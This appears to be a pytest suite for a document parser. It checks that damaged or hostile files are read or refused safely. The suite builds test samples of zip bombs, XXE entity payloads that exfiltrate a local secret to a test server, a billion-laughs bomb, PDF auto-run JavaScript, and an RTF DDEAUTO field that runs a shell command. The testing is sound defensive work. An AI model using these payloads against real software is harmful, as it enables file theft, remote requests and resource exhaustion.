"""Damaged and hostile files: each ends in a plan or in a message that says the way out, soon, and leaves nothing behind."""

import hashlib
import http.server
import io
import os
import random
import re
import shutil
import struct
import subprocess
import sys
import tempfile
import threading
import time
import zipfile
import zlib
from pathlib import Path

import pytest

import adminplan
from adminplan import cli
from adminplan.errors import UnreadableFile
from adminplan.files import html, limits, lines, textual, unlock
from adminplan.files.doc import find_office
from adminplan.files.ocr_words import engine
from adminplan.files.read import read, read_bytes, read_text

CORPUS = Path(__file__).parent.parent.parent / "corpus" / "documents"
DOCUMENTS = sorted(path for path in CORPUS.iterdir() if path.suffix != ".json")
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PARAGRAPH = "<w:p><w:r><w:t>KẾ HOẠCH công tác năm</w:t></w:r></w:p>"
SECRET = "bí mật nằm ngoài tệp"


@pytest.fixture(autouse=True)
def nothing_is_left(tmp_path_factory, monkeypatch):
    """Whatever is made of a file, the folder for temporary files is empty afterwards."""
    folder = tmp_path_factory.mktemp("temporary")
    monkeypatch.setenv("TMPDIR", str(folder))
    monkeypatch.setattr(tempfile, "tempdir", None)
    yield folder
    assert list(folder.iterdir()) == []


@pytest.fixture
def server():
    """A web server on this machine; `asked` lists what was asked of it."""
    asked = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.path)
            self.send_error(404)

        do_HEAD = do_POST = do_OPTIONS = do_PROPFIND = do_GET  # noqa: N815 - the names are the standard library's

        def log_message(self, *_):
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as running:
        threading.Thread(target=running.serve_forever, daemon=True).start()
        running.asked = asked
        running.address = f"http://127.0.0.1:{running.server_port}"
        yield running
        running.shutdown()


def docx(body=PARAGRAPH, *, head="", method=zipfile.ZIP_DEFLATED, parts=()):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as file:
        file.writestr(
            "word/document.xml", f'<?xml version="1.0"?>{head}<w:document xmlns:w="{W}"><w:body>{body}</w:body></w:document>'
        )
        for name, content in dict(parts).items():
            file.writestr(name, content)
    return out.getvalue()


def pdf(content, *, pages=1, box="0 0 595 842", resources="", more=(), head="", trailer="", cipher=lambda _, data: data):
    """A PDF whose pages all show the same content; `cipher` encrypts the stream of an object."""

    def stream(number, words, data):
        packed = cipher(number, zlib.compress(data))
        return b"<<%s/Filter/FlateDecode/Length %d>>stream\n%s\nendstream" % (words.encode(), len(packed), packed)

    last = 4 + pages
    kids = " ".join(f"{4 + number} 0 R" for number in range(pages))
    page = f"<</Type/Page/Parent 2 0 R/MediaBox[{box}]/Resources<</Font<</F 3 0 R>>{resources}>>/Contents {last} 0 R>>"
    objects = [f"<</Type/Catalog/Pages 2 0 R{head}>>", f"<</Type/Pages/Count {pages}/Kids[{kids}]>>"]
    objects += ["<</Type/Font/Subtype/Type1/BaseFont/Courier>>", *[page] * pages]
    written = [one.encode() for one in objects] + [stream(last, "", content)]
    written += [stream(last + 1 + index, words, data) for index, (words, data) in enumerate(more)]
    out, places = b"%PDF-1.6\n", []
    for number, one in enumerate(written, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, one)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    out_at = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n%s" % (len(written) + 1, table)
    return out + f"trailer\n<</Size {len(written) + 1}/Root 1 0 R{trailer}>>\nstartxref\n{out_at}\n%%EOF".encode()


def typed(*texts):
    return "".join(f"BT /F 12 Tf 1 0 0 1 72 {770 - 16 * row} Tm ({text}) Tj ET\n" for row, text in enumerate(texts)).encode()


def rc4(key, data):
    state, at = list(range(256)), 0
    for index in range(256):
        at = (at + state[index] + key[index % len(key)]) % 256
        state[index], state[at] = state[at], state[index]
    out, one, two = bytearray(), 0, 0
    for byte in data:
        one = (one + 1) % 256
        two = (two + state[one]) % 256
        state[one], state[two] = state[two], state[one]
        out.append(byte ^ state[(state[one] + state[two]) % 256])
    return bytes(out)


PADDING = bytes.fromhex("28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A")


def locked_pdf(password, owner="chủ"):
    """A PDF under the standard security handler, revision 2 (ISO 32000-1, 7.6.3)."""

    def padded(words):
        return (words.encode("latin-1", "replace") + PADDING)[:32]

    def md5(data):
        return hashlib.md5(data, usedforsecurity=False).digest()

    by_owner = rc4(md5(padded(owner))[:5], padded(password))
    allowed, identifier = -44, b"0123456789abcdef"
    key = md5(padded(password) + by_owner + struct.pack("<i", allowed) + identifier)[:5]
    trailer = f"/ID[<{identifier.hex()}><{identifier.hex()}>]/Encrypt<</Filter/Standard/V 1/R 2/P {allowed}/O<{by_owner.hex()}>/U<{rc4(key, PADDING).hex()}>>>"
    return pdf(
        typed("KE HOACH", "1. Trong cay", "2. Bao cao"),
        trailer=trailer,
        cipher=lambda number, data: rc4(md5(key + struct.pack("<I", number)[:3] + b"\0\0")[:10], data),
    )


def outcome(data, name="tep"):
    """The `Source`, or the refusal, which must name a way out."""
    try:
        return read_bytes(data, name=name)
    except UnreadableFile as error:
        refusal = error
    assert refusal.found
    assert re.fullmatch(r"[A-Z`].{10,}", refusal.remedy)
    return refusal


def messages(source):
    return [one.message for one in source.issues]


# --- damage -----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("path", DOCUMENTS, ids=[path.name for path in DOCUMENTS])
def test_a_file_cut_anywhere_is_read_or_refused(path):
    data = path.read_bytes()
    for sixteenth in range(16):
        outcome(data[: len(data) * sixteenth // 16])


@pytest.mark.parametrize("ending", [".pdf", ".docx", ".html", ".txt"])
def test_a_file_with_damaged_bytes_is_read_or_refused(ending, tmp_path):
    picked = random.Random(20240115)
    data = next(path for path in DOCUMENTS if path.suffix == ending).read_bytes()
    for _ in range(12):
        hurt = bytearray(data)
        for _ in range(picked.choice((1, 20, 400))):
            hurt[picked.randrange(len(hurt))] = picked.randrange(256)
        if not isinstance(outcome(bytes(hurt)), UnreadableFile):
            file = tmp_path / f"hong{ending}"
            file.write_bytes(hurt)
            adminplan.parse(file)  # the stations after the readers never raise


def test_a_truncated_page_keeps_what_there_is():
    data = next(path for path in DOCUMENTS if path.suffix == ".html").read_bytes()
    whole, half = outcome(data), outcome(data[: len(data) // 2])
    assert half.raw[:200] == whole.raw[:200]
    assert 5 < len(half.lines) < len(whole.lines)


@pytest.mark.parametrize("ending", [".pdf", ".docx", ".html", ".txt"])
def test_a_wrong_ending_does_not_matter(ending, tmp_path):
    path = next(one for one in DOCUMENTS if one.suffix == ending)
    wrong = tmp_path / ("a.pdf" if ending != ".pdf" else "a.docx")
    shutil.copy(path, wrong)
    assert read(wrong).media_type == read(path).media_type


def test_what_is_no_regular_file_is_not_waited_for(tmp_path):
    if not hasattr(os, "mkfifo"):
        pytest.skip("no named pipes here")
    os.mkfifo(tmp_path / "pipe")
    with pytest.raises(UnreadableFile, match="no regular file"):
        read(tmp_path / "pipe")


# --- passwords --------------------------------------------------------------------------------------------------------


def test_a_locked_pdf_is_opened_by_its_password(tmp_path, capsys):
    file = tmp_path / "khoa.pdf"
    file.write_bytes(locked_pdf("mat khau"))
    with pytest.raises(UnreadableFile, match=r"password-protected PDF.*--password"):
        adminplan.parse(file)
    with pytest.raises(UnreadableFile, match="password given does not open it"):
        adminplan.parse(file, password="khac")
    plan = adminplan.parse(file, password="mat khau")
    assert "1. Trong cay\n2. Bao cao" in plan.text
    assert plan.source.bytes == file.stat().st_size, "size and hash are those of the file as given"
    assert plan.source.sha256 == hashlib.sha256(file.read_bytes()).hexdigest()
    assert cli.main(["parse", str(file)]) == 1
    assert "adminplan parse --password" in capsys.readouterr().err
    assert cli.main(["parse", str(file), "--password", "mat khau"]) == 0
    assert adminplan.load(capsys.readouterr().out) == plan


def test_a_pdf_that_only_forbids_printing_needs_no_password():
    assert read_bytes(locked_pdf(""), name="a").lines[0].start == 0
    data = locked_pdf("")
    assert unlock.unlock(data, name="a", password="gì cũng được") is data


def test_a_password_for_a_file_that_needs_none_is_not_used():
    path = next(one for one in DOCUMENTS if one.suffix == ".docx")
    assert read(path, password="x") == read(path)


def test_a_locked_document_is_opened_by_its_password(tmp_path):
    from msoffcrypto.format import ooxml

    path = next(one for one in DOCUMENTS if one.suffix == ".docx")
    out = io.BytesIO()
    with path.open("rb") as plain:
        ooxml.OOXMLFile(plain).encrypt("mật khẩu", out)
    locked = tmp_path / path.name
    locked.write_bytes(out.getvalue())
    with pytest.raises(UnreadableFile, match=r"password-protected Office document.*--password"):
        read(locked)
    with pytest.raises(UnreadableFile, match="password given does not open it"):
        read(locked, password="mật  khẩu")
    assert read(locked, password="mật khẩu").lines == read(path).lines
    for cut in (600, 3000, len(out.getvalue()) // 2):
        with pytest.raises(UnreadableFile):
            read_bytes(out.getvalue()[:cut], name="a", password="mật khẩu")
    slow = out.getvalue().replace(b'spinCount="100000"', b'spinCount="99999999"'[:18])
    assert slow != out.getvalue()


def test_without_the_library_a_locked_document_says_what_to_install(monkeypatch):
    monkeypatch.setitem(sys.modules, "msoffcrypto", None)
    data = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + "EncryptedPackage".encode("utf-16-le") + bytes(600)
    with pytest.raises(UnreadableFile, match="pip install msoffcrypto-tool"):
        read_bytes(data, name="a.docx", password="x")


# --- packages ---------------------------------------------------------------------------------------------------------


def test_zip_bombs_are_not_unpacked():
    began = time.perf_counter()
    bombs = {
        "300 times its size": docx(PARAGRAPH * 400_000),
        "unfolds to 260 MB": docx(parts={f"word/media/{index}.png": os.urandom(1 << 16) * 320 for index in range(13)}),
        "very many parts": docx(parts={f"word/media/{index}": b"" for index in range(limits.MEMBERS)}),
        "packed in a way": docx(PARAGRAPH * 9, method=zipfile.ZIP_BZIP2),
        "64 MB of XML|more than 1,000,000 elements": docx("<w:p/>" * (2 * limits.ELEMENTS + 9), method=zipfile.ZIP_STORED),
    }
    assert time.perf_counter() - began < 60
    for found, data in bombs.items():
        began = time.perf_counter()
        assert re.search(found, outcome(data).found)
        assert time.perf_counter() - began < 2


def test_a_package_that_lies_about_its_sizes_gives_no_more_than_it_says():
    data = docx(PARAGRAPH * 20_000)
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        size = struct.pack("<I", package.getinfo("word/document.xml").file_size)
    assert data.count(size) == 2
    assert "cannot be unzipped" in outcome(data.replace(size, struct.pack("<I", 5_000))).found


def test_packages_in_packages_are_left_alone():
    inner = docx(PARAGRAPH * 300)
    for _ in range(5):
        inner = docx(parts={"word/embeddings/a.docx": inner})
    assert len(outcome(inner).lines) == 1


@pytest.mark.parametrize("depth", [80, 250, 3_000, 200_000])
def test_deep_elements_are_read_or_cut(depth):
    sdt = docx("<w:sdt><w:sdtContent>" * (depth // 2) + PARAGRAPH + "</w:sdtContent></w:sdt>" * (depth // 2) + PARAGRAPH)
    tables = docx("<w:tbl><w:tr><w:tc>" * (depth // 3) + PARAGRAPH + "</w:tc></w:tr></w:tbl>" * (depth // 3))
    runs = docx("<w:p>" + "<w:ins>" * depth + "<w:r><w:t>a</w:t></w:r>" + "</w:ins>" * depth + "</w:p>")
    for data in (sdt, tables, runs):
        source = outcome(data)
        assert isinstance(source, UnreadableFile) or source.lines or any("damaged" in message for message in messages(source))
    for tag in ("div", "b", "table><tr><td", "ul><li", "font color=red"):
        source = outcome(f"<html><body><p>trước</p>{f'<{tag}>' * depth}sâu".encode())
        assert source.raw.startswith("trước")
        assert source.raw.endswith("sâu") or any("deep" in message for message in messages(source))
        assert max(len(line.path or "") for line in source.lines) < 1_100
    brackets = pdf(b"", more=()).replace(b"/Type/Catalog", b"/Type/Catalog/A " + b"[" * depth + b"]" * depth)
    outcome(brackets)


# --- nothing is fetched, expanded or run ------------------------------------------------------------------------------


@pytest.fixture
def secret(tmp_path):
    path = tmp_path / "secret.txt"
    path.write_text(SECRET, encoding="utf-8")
    return path.as_uri()


def entities(secret, address):
    yield f'<!DOCTYPE x SYSTEM "{address}/a.dtd">'
    yield f'<!DOCTYPE x [<!ENTITY a SYSTEM "{secret}">]>'
    yield f'<!DOCTYPE x [<!ENTITY a SYSTEM "{address}/entity">]>'
    yield f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{address}/parameter"> %p;]>'
    yield f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{secret}"> <!ENTITY % q "<!ENTITY a SYSTEM \'{address}/?%p;\'>"> %q;]>'


def test_entities_are_neither_fetched_nor_expanded(server, secret):
    for head in entities(secret, server.address):
        relations = f'<?xml version="1.0"?>{head}<Relationships><Relationship Id="&a;"/></Relationships>'
        for data in (
            docx(f"<w:p><w:r><w:t>trước &a; sau</w:t></w:r></w:p>{PARAGRAPH}", head=head),
            docx(PARAGRAPH, parts={"word/_rels/document.xml.rels": relations}),
            f"<?xml version='1.0'?>{head}<html xmlns='http://www.w3.org/1999/xhtml'><body><p>trước &a; sau</p></body></html>".encode(),
            f"{head}<html><body><p>trước &a; sau</p></body></html>".encode(),
        ):
            result = outcome(data)
            assert SECRET not in getattr(result, "raw", "")
    assert server.asked == []


def test_a_thousand_million_laughs_are_not_laughed():
    head = "<!DOCTYPE x [<!ENTITY a0 'ha ha ha '>" + "".join(f"<!ENTITY a{n + 1} '{f'&a{n};' * 10}'>" for n in range(9)) + "]>"
    began = time.perf_counter()
    for body in (PARAGRAPH + "<w:p><w:r><w:t>&a9;</w:t></w:r></w:p>", PARAGRAPH + '<w:p w:rsidR="&a9;"/>'):
        assert len(outcome(docx(body, head=head)).raw) < 1_000
    assert len(outcome(f"{head}<html><p>KẾ HOẠCH &a9;</p></html>".encode()).raw) < 1_000
    assert time.perf_counter() - began < 2


def test_nothing_that_a_file_points_at_is_fetched(server, secret):
    to = server.address
    relations = "".join(
        f'<Relationship Id="r{index}" Type="{R}/{kind}" Target="{to}/{kind}" TargetMode="External"/>'
        for index, kind in enumerate(("image", "attachedTemplate", "aFChunk", "header", "styles", "oleObject", "subDocument"))
    )
    word = docx(
        f'<w:altChunk r:id="r2" xmlns:r="{R}"/><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDETEXT "{secret}" '
        f'</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>{PARAGRAPH}<w:sectPr><w:headerReference r:id="r3" xmlns:r="{R}"/></w:sectPr>',
        parts={"word/_rels/document.xml.rels": f'<?xml version="1.0"?><Relationships xmlns="p">{relations}</Relationships>'},
    )
    page = (
        f'<html><head><base href="{to}/"><link rel=stylesheet href="a.css"><script src="{to}/a.js"></script><meta http-equiv=refresh content="0;url={to}/m">'
        f'</head><body background="{to}/b"><img src="{to}/i.png"><iframe src="{to}/f"></iframe><object data="{secret}"></object>'
        f"<style>@import '{to}/s.css'; p {{background: url({to}/u)}}</style><p style='background:url({to}/v)'>KẾ HOẠCH</p></body></html>"
    )
    paper = pdf(
        typed("KE HOACH"),
        head=f"/OpenAction<</S/URI/URI({to}/open)>>/AA<</WC<</S/JavaScript/JS(app.launchURL\\('{to}/js'\\))>>>>",
        more=[(f"/F<</FS/URL/F({to}/stream)>>", b"")],
    )
    notes = f"KẾ HOẠCH\n![ảnh]({to}/a.png)\n[x]: {to}/b\n<img src='{to}/c'>\n"
    for data in (word, page.encode(), paper, notes.encode()):
        assert "HO" in outcome(data).raw
    assert server.asked == []


@pytest.mark.skipif(find_office() is None and os.environ.get("CI") != "true", reason="LibreOffice is not installed")
def test_the_converter_fetches_and_runs_nothing(server, secret, tmp_path):
    mark = tmp_path / "run"
    to = server.address
    rich = (
        r"{\rtf1\ansi{\*\template " + to + r"/template.dotx}"
        r'{\field{\*\fldinst INCLUDEPICTURE \\d "' + to + r'/picture.png" \\* MERGEFORMAT}{\fldrslt }}'
        r'{\field{\*\fldinst INCLUDETEXT "' + secret + r'"}{\fldrslt cu}}'
        r'{\field{\*\fldinst DDEAUTO sh "-c" "touch ' + str(mark) + r'"}{\fldrslt }}'
        r"{\object\objautlink\objupdate{\*\objclass Word.Document.8}{\*\objdata 01050000}{\result }}"
        r"KE HOACH cong tac\par 1. Trong cay\par}"
    )
    source = outcome(rich.encode())
    assert "Trong cay" in source.raw
    assert SECRET not in source.raw
    assert server.asked == []
    assert not mark.exists()


# --- bounds -----------------------------------------------------------------------------------------------------------


def test_of_a_long_pdf_the_first_pages_are_read_in_bounded_time_and_memory(tmp_path):
    file = tmp_path / "dai.pdf"
    file.write_bytes(pdf(typed(*(f"{row}. Noi dung cong viec cua thang {row}" for row in range(1, 30))), pages=5_000))
    # ru_maxrss of a new process begins with what the one that began it held; Linux tells the process' own peak too.
    code = (
        "import resource, sys, time\nfrom adminplan.files.read import read\n"
        "def peak():\n"
        "    try:\n"
        "        lines = open('/proc/self/status').readlines()\n"
        "    except OSError:\n"
        "        return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss >> 10\n"
        "    return next(int(line.split()[1]) for line in lines if line.startswith('VmHWM')) >> 10\n"
        "began = time.perf_counter()\nsource = read(sys.argv[1])\n"
        "print(len(source.pages), peak(), time.perf_counter() - began)\n"
        "print(*(one.code + ' ' + one.message for one in source.issues), sep='\\n')"
    )
    done = subprocess.run(
        [sys.executable, "-c", code, file], capture_output=True, encoding="utf-8", check=True
    ).stdout.splitlines()
    pages, megabytes, seconds = done[0].split()
    assert int(pages) == limits.PAGES
    assert int(megabytes) < 1_000
    assert float(seconds) < 60
    assert [line for line in done[1:] if line.startswith("text-cut")] == [
        f"text-cut reading stopped at page {limits.PAGES} of 5000"
    ]


def png(width, height):
    """A white picture, one bit a pixel."""
    row = b"\0" + b"\xff" * ((width + 7) // 8)
    packed = zlib.compressobj(9)
    data = b"".join(packed.compress(row) for _ in range(height)) + packed.flush()
    chunks = ((b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)), (b"IDAT", data), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body)) for kind, body in chunks
    )


@pytest.mark.skipif(engine() is None and os.environ.get("CI") != "true", reason="tesseract with vie is not installed")
@pytest.mark.parametrize("size", [(40_000, 25_000), (12_000, 10_000), (1_000_000, 1_000)])
def test_pictures_of_very_many_pixels_are_refused(size):
    began = time.perf_counter()
    refusal = outcome(png(*size))
    assert f"{limits.PIXELS:,} pixels" in f"{refusal.found} {refusal.remedy}"
    assert time.perf_counter() - began < 5


@pytest.mark.skipif(engine() is None and os.environ.get("CI") != "true", reason="tesseract with vie is not installed")
def test_very_large_pages_are_rendered_small():
    picture = "/Type/XObject/Subtype/Image/Width {0}/Height {0}/BitsPerComponent 1/ColorSpace/DeviceGray"
    for box, side in (("0 0 595 842", 40_000), ("0 0 14400 14400", 200)):
        began = time.perf_counter()
        across = box.split()[2]
        data = pdf(
            f"q {across} 0 0 {across} 0 0 cm /Im Do Q".encode(),
            box=box,
            resources="/XObject<</Im 6 0 R>>",
            more=[(picture.format(side), b"\xff" * (side * side // 8))],
        )
        assert "without text" in outcome(data).found
        assert time.perf_counter() - began < 90


def test_of_a_long_text_the_beginning_is_read(monkeypatch):
    monkeypatch.setattr(textual, "CHARACTERS", 40)
    monkeypatch.setattr(lines, "CHARACTERS", 40)
    source = read_text("KẾ HOẠCH\nmột hai ba bốn năm sáu bảy tám chín mười")
    assert source.raw.startswith("KẾ HOẠCH\nmột hai ba")
    assert 30 < len(source.raw) <= 40
    assert messages(source) == ["reading stopped at 40 characters"]
    monkeypatch.setattr(textual, "_ROWS", 3)
    source = read_text("a\n\nb\n\nc\n\nd")
    assert source.raw == "a\nb"
    assert messages(source) == ["reading stopped at 3 lines, blank ones among them"]


def test_of_a_long_document_the_beginning_is_read(monkeypatch):
    page = b"<html><body><p>mot</p><p>hai ba</p><p>bon</p></body></html>"
    monkeypatch.setattr(lines, "LINES", 2)
    for data in (page, docx(PARAGRAPH * 3)):
        source = outcome(data)
        assert len(source.lines) == 2
        assert messages(source)[-1] == "reading stopped at 2 lines"
    monkeypatch.setattr(lines, "LINES", 99)
    monkeypatch.setattr(lines, "CHARACTERS", 9)
    source = outcome(page)
    assert (source.raw, messages(source)) == ("mot\nhai b", ["reading stopped at 9 characters"])
    monkeypatch.setattr(lines, "CHARACTERS", 99)
    monkeypatch.setattr(html, "MARKUP", 31)
    assert messages(outcome(page)) == ["reading stopped at 31 characters of a web page"]
    monkeypatch.setattr(html, "MARKUP", 999)
    monkeypatch.setattr(html, "ELEMENTS", 5)
    assert messages(outcome(page))[0] == "reading stopped at 5 elements"


def test_a_tag_of_very_many_attributes_costs_no_more_than_its_length():
    many = " ".join(f"a{index}='>'" for index in range(60_000))
    began = time.perf_counter()
    source = outcome(f"<html><body><p>trước</p><script>if (a<b) x='{'y' * 70_000}';</script><p {many}>sau</p><p>hết</p>".encode())
    assert source.raw == "trước\nsau\nhết"
    assert time.perf_counter() - began < 2
    for hostile in ("<a '", "<a ='", '<a b="', "<!--", "<script", "<a a=a", "<a =", "<b " + "x " * 50):
        began = time.perf_counter()
        html._within_limits(hostile * (1_000_000 // len(hostile)))
        assert time.perf_counter() - began < 2, hostile


@pytest.mark.parametrize(
    "text",
    [
        "<br>x",
        "<p>x",
        "<td>x",
        "<table><tr><td>x",
        "<li>x",
        "<section><p>x",
        "<b>x</b>",
        "&amp;",
        "<tr><td colspan=99 rowspan=99>x",
        "<p class=a id=b>x y",
    ],
)
def test_pages_of_very_many_elements_take_bounded_time(text):
    began = time.perf_counter()
    outcome(f"<html><body>{text * (400_000 // len(text))}".encode())
    assert time.perf_counter() - began < 20
